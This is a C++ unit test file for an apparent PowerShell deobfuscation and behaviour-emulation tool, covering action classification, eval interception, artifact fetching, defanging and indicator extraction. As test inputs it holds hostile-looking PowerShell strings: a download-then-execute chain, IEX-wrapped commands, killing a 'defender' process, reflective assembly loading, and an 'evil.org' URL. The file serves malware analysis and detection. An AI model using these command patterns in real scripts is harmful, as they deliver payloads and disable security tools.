#include "doctest.h"

#include "psdeob/behavior.hpp"
#include "psdeob/sandbox.hpp"

#include <atomic>
#include <filesystem>
#include <fstream>
#include <random>

namespace fs = std::filesystem;
using namespace psdeob;

namespace {

EmulationResult emu(const std::string& s) { return emulate(ScriptText::from_text(s), FetchPolicy{}); }

std::vector<ActionKind> kinds(const EmulationResult& r) {
    std::vector<ActionKind> out;
    for (const auto& a : r.actions) out.push_back(a.kind);
    return out;
}

class CannedClient final : public FetchClient {
public:
    explicit CannedClient(FetchResult r) : result_(std::move(r)) {}
    FetchResult fetch(const std::string&, double, std::size_t) override {
        ++calls;
        return result_;
    }
    std::atomic<int> calls{0};

private:
    FetchResult result_;
};

}  // namespace

TEST_CASE("emulator records downloads and process starts") {
    const auto r = emu(
        "$u = 'http://' + 'example.com/a.exe'; $p = \"$env:TEMP\\a.exe\"\n"
        "(New-Object Net.WebClient).DownloadFile($u, $p); Start-Process $p");
    // Building a path from an environment variable counts as VarManip.
    REQUIRE(r.actions.size() == 3);
    CHECK(r.actions[0].kind == ActionKind::VarManip);
    CHECK(r.actions[0].detail == "TEMP");
    CHECK(r.actions[1].kind == ActionKind::Download);
    CHECK(r.actions[1].detail == "http://example.com/a.exe");
    CHECK(r.actions[2].kind == ActionKind::ProcStart);
    CHECK(r.actions[2].detail == "%TEMP%\\a.exe");
    CHECK(r.dropped_paths == std::vector<std::string>{"%TEMP%\\a.exe"});
    REQUIRE(!r.env_uses.empty());
    CHECK(r.env_uses[0].name == "TEMP");
}

TEST_CASE("emulator action kinds") {
    CHECK(kinds(emu("cmd.exe /c whoami")) == std::vector{ActionKind::ShellExec, ActionKind::ProcStart});
    CHECK(kinds(emu("cmd.exe /c echo hi")) == std::vector{ActionKind::ShellExec});
    CHECK(kinds(emu("Stop-Process -Name defender")) == std::vector{ActionKind::ProcKill});
    CHECK(kinds(emu("$env:FOO = 'x'")) == std::vector{ActionKind::VarManip});
    CHECK(kinds(emu("[Reflection.Assembly]::Load($bytes)")) == std::vector{ActionKind::MemLoad});
}

TEST_CASE("unresolved values are marked") {
    const auto r = emu("Start-Process $unknown");
    REQUIRE(r.actions.size() == 1);
    CHECK_FALSE(r.actions[0].resolved);
    CHECK(r.actions[0].detail == "$unknown");
}

TEST_CASE("eval arguments are intercepted, not run") {
    const auto r = emu("IEX ('Start-' + 'Process x.exe')");
    REQUIRE(r.evals.size() == 1);
    CHECK(r.evals[0].resolved);
    CHECK(r.evals[0].argument_text == "Start-Process x.exe");
    const auto nested = emu("IEX ('S`tart-Process' + ' x')");
    REQUIRE(nested.evals.size() == 1);
    CHECK(nested.evals[0].nested_layer == LayerType::string_based());
}

TEST_CASE("step budget") {
    CHECK_THROWS_AS(emulate(ScriptText::from_text("for ($i = 0; $i -lt 100000; $i++) { $x = $i }"), FetchPolicy{}, 0, 50),
                    EmulationBudgetExceeded);
}

TEST_CASE("fetch policy") {
    const fs::path root = fs::temp_directory_path() / "psdeob_unit_fetch";
    fs::remove_all(root);
    const std::string digest = "ab" + std::string(62, '0');

    FetchPolicy record;
    auto never = std::make_shared<CannedClient>(FetchResult::success("x"));
    record.client = never;
    const FetchOutcome skipped = fetch_artifact("http://example.com/", record, root, digest);
    CHECK(skipped.status == FetchOutcome::Status::Skipped);
    CHECK(never->calls == 0);

    FetchPolicy live;
    live.mode = FetchPolicy::Mode::FetchViaClient;
    live.client = std::make_shared<CannedClient>(FetchResult::success("payload"));
    const FetchOutcome stored = fetch_artifact("http://example.com/", live, root, digest);
    CHECK(stored.status == FetchOutcome::Status::Stored);
    CHECK(stored.artifact_id == sha256_hex("payload"));
    CHECK(stored.path == root / digest / (sha256_hex("payload") + ".bin"));
    std::ifstream in(stored.path, std::ios::binary);
    CHECK(std::string(std::istreambuf_iterator<char>(in), {}) == "payload");

    live.client = std::make_shared<CannedClient>(FetchResult::failure(FetchErrorKind::FetchTimeout, "slow"));
    const FetchOutcome failed = fetch_artifact("http://example.com/", live, root, digest);
    CHECK(failed.status == FetchOutcome::Status::Failed);
    CHECK(failed.error == FetchErrorKind::FetchTimeout);
    fs::remove_all(root);
}

TEST_CASE("pattern classification is exact set equality") {
    using K = ActionKind;
    CHECK(classify_pattern(std::set<K>{K::Download, K::ProcStart}) == BehavioralPattern::DownExec);
    CHECK(classify_pattern(std::set<K>{K::Download, K::ShellExec}) == BehavioralPattern::DownShell);
    CHECK(classify_pattern(std::set<K>{}) == BehavioralPattern::Unclassified);
    for (auto p : kClassifiedPatterns) {
        CHECK(classify_pattern(pattern_action_set(p)) == p);
    }
    // Property: every subset of action kinds classifies to at most one pattern,
    // and only when it equals that pattern's set.
    for (unsigned mask = 0; mask < (1u << std::size(kAllActionKinds)); ++mask) {
        std::set<K> s;
        for (std::size_t i = 0; i < std::size(kAllActionKinds); ++i) {
            if (mask & (1u << i)) s.insert(kAllActionKinds[i]);
        }
        const auto p = classify_pattern(s);
        if (p != BehavioralPattern::Unclassified) CHECK(pattern_action_set(p) == s);
    }
}

TEST_CASE("defanging") {
    CHECK(defang("http://example.com/malware.exe", IocKind::Url) == "hxxp://example[.]com/malware.exe");
    CHECK(defang("ftp://1.2.3.4/x", IocKind::Url) == "fxp://1[.]2[.]3[.]4/x");
    CHECK(defang("C:\\a.exe", IocKind::FilePath) == "C:\\a.exe");
    CHECK(url_host("https://user@host.example.org:8080/p?q") == "host.example.org");
    CHECK(refang("hxxp://a(.)b[:]80/x") == "http://a.b:80/x");

    std::mt19937_64 rng(1);
    const std::string alphabet = "abcdefghij0123456789-";
    for (int i = 0; i < 500; ++i) {
        std::string host;
        const int labels = 1 + static_cast<int>(rng() % 4);
        for (int l = 0; l < labels; ++l) {
            if (l) host += '.';
            for (int c = 0; c < 1 + static_cast<int>(rng() % 8); ++c) host += alphabet[rng() % 20];
        }
        const std::string url = std::string(rng() % 2 ? "http" : "https") + "://" + host + "/p" + std::to_string(i);
        const std::string d = defang(url, IocKind::Url);
        CHECK(refang(d) == url);
        CHECK(d.find("http") == std::string::npos);
    }
}

TEST_CASE("IOC and environment extraction") {
    std::vector<ActionRecord> acts{{ActionKind::Download, "http://example.com/a.exe", {}, 0, true}};
    const auto iocs = extract_iocs(acts, "Start-Process 'hxxp://evil[.]org/b'", {"C:\\a.exe"});
    std::vector<std::string> raws;
    for (const auto& i : iocs) raws.push_back(std::string(to_string(i.kind)) + ":" + i.raw);
    CHECK(raws == std::vector<std::string>{"Url:http://example.com/a.exe", "Domain:example.com",
                                           "Url:http://evil.org/b", "Domain:evil.org", "FilePath:C:\\a.exe"});

    const auto env = extract_env_vars({{"temp", EnvUsage::PathBuild, {}}, {"TEMP", EnvUsage::PathBuild, {}},
                                       {"AppData", EnvUsage::ProcessArg, {}}});
    REQUIRE(env.size() == 2);
    CHECK(env[0] == EnvVarStat{"TEMP", EnvUsage::PathBuild, 2});
    CHECK(env[1] == EnvVarStat{"APPDATA", EnvUsage::ProcessArg, 1});
}
